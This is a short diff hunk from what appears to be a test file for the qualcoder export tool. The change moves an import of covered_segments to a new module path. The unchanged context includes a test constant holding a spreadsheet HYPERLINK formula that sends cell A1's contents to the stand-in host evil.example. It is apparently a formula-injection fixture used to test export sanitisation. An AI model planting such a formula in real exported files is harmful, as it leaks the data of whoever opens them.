@@ -14,11 +14,11 @@ from typer.testing import CliRunner
 
 from qualcoder import Project
 from qualcoder.cli import app
+from qualcoder.coding.overlap import covered_segments
 from qualcoder.export import iramuteq, tabular
 from qualcoder.export.codebook_docx import write_codebook_docx
 from qualcoder.export.errors import ExportError, NoSegments, OutputExists, UnknownFilter, UnsupportedExportFormat
 from qualcoder.ingest.iramuteq import split_iramuteq
-from qualcoder.overlap import covered_segments
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'
